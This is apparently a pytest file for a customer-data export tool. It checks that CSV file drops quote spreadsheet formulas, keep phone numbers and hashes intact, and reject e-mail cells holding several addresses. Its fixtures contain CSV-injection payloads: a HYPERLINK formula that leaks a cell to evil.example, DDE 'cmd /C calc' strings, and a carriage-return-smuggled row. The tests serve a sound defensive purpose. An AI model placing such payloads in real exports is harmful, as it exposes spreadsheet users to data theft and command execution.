"""The cells of a file drop, written by real delivery: a name a spreadsheet would run as a
formula (``=HYPERLINK(…)``, ``+cmd``, ``-…``, ``@…``) gets a leading ``'`` (Excel or WPS
ran it when the platform's file was opened), an unhashed e-mail too, and a line break in
a name is a space (a bare CR split the row in two); a phone in E.164 keeps its ``+`` and
hashes stay as they are."""

from __future__ import annotations

import csv
import hashlib

from automation_helpers import FAST, TEMPLATES, runs, write_journeys

from kequn.automation.deliver import deliver
from kequn.automation.plan import process_run
from kequn.store.workspace import Workspace

NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "王小明",
    "x\rC0000666,+8613800000000,evil@example.com,x,zh\nC0000667,+8613800000001",
)


def _cell(name: str) -> str:
    """What the file holds for ``name``."""
    quoted = "'" + name if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name
    return quoted.replace("\t", " ").replace("\r", " ").replace("\n", " ")


def _deliver(ws: Workspace, hash_: str) -> list[dict[str, str]]:
    """Deliver a journey to a drop file with ``hash_``; its rows, each on one line."""
    _, late = runs(ws)
    drop = {"type": "file", "folder": "drops", "hash": hash_, "phone_format": "e164",
            "columns": ["customer_id", "phone", "email", "name", "lang"]}  # fmt: skip
    write_journeys(
        ws,
        {"delivery": FAST, "channels": {"ads": drop},
         "journeys": [{"id": "buyers", "trigger": {"rule": "orders >= 1"}, "channel": "ads",
                       "templates": TEMPLATES, "frequency_cap": None}]},
    )  # fmt: skip
    summary = process_run(late)
    assert deliver(ws)["sent"] == summary["messages"] > len(NAMES)
    (path,) = (ws.root / "drops").glob("*.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    lines = path.read_bytes().splitlines()  # what a platform reading lines sees
    assert len(lines) == len(rows) + 1 == summary["messages"] + 1
    return rows


def _hostile(ws: Workspace) -> dict[str, dict[str, str]]:
    """Every customer gets one of the names, and a phone in E.164; one an e-mail that is
    a formula too (a valid address all the same)."""
    with ws.read() as con:
        ids = [r[0] for r in con.execute("SELECT customer_id FROM customers ORDER BY 1").fetchall()]
    people = {
        cid: {"name": NAMES[i % len(NAMES)], "phone": f"+86 138 {i:04d} {i:04d}"}
        for i, cid in enumerate(ids)
    }
    with ws.write() as con:
        con.executemany(
            "UPDATE customers SET name = ?, phone = ? WHERE customer_id = ?",
            [[p["name"], p["phone"], cid] for cid, p in people.items()],
        )
        con.execute("UPDATE customers SET email = '=1+2@shop.example' WHERE email IS NOT NULL")
    return people


def test_formula_cells_are_quoted_but_phones_and_hashes_are_kept(aws: Workspace) -> None:
    people = _hostile(aws)
    rows = _deliver(aws, "none")
    assert {r["name"] for r in rows} == {_cell(n) for n in NAMES}  # every kind was written
    for row in rows:
        person = people[row["customer_id"]]
        assert row["name"] == _cell(person["name"])
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
        digits = person["phone"].replace(" ", "").removeprefix("+")
        assert row["phone"] == "+" + digits  # E.164 as the platforms need it, + kept
        assert row["email"] in ("", "'=1+2@shop.example")
        assert row["lang"] in ("zh", "en")
    assert any(row["email"] for row in rows)


def test_hashed_cells_are_never_quoted(aws: Workspace) -> None:
    people = _hostile(aws)
    rows = _deliver(aws, "sha256")
    for row in rows:
        digits = people[row["customer_id"]]["phone"].replace(" ", "")
        assert row["phone_sha256"] == hashlib.sha256(digits.encode()).hexdigest()
        assert row["email_sha256"] in (
            "",
            hashlib.sha256(b"=1+2@shop.example").hexdigest(),
        )
        assert row["name"] == _cell(people[row["customer_id"]]["name"])


def test_an_email_cell_that_is_not_one_address_is_left_empty(aws: Workspace) -> None:
    with aws.read() as con:
        ids = [
            r[0]
            for r in con.execute(
                "SELECT customer_id FROM customers WHERE phone IS NOT NULL ORDER BY 1"
            ).fetchall()
        ]
    cells = ("a@shop.example, victim@other.example", "a@shop.example;b@other.example",
             "Victim <victim@other.example>", " Ok@Shop.Example ")  # fmt: skip
    with aws.write() as con:
        con.executemany(
            "UPDATE customers SET email = ? WHERE customer_id = ?",
            [[cells[i % len(cells)], cid] for i, cid in enumerate(ids)],
        )
    rows = _deliver(aws, "none")
    assert {r["email"] for r in rows} == {"", "ok@shop.example"}
    assert not any("victim" in v for r in rows for v in r.values())
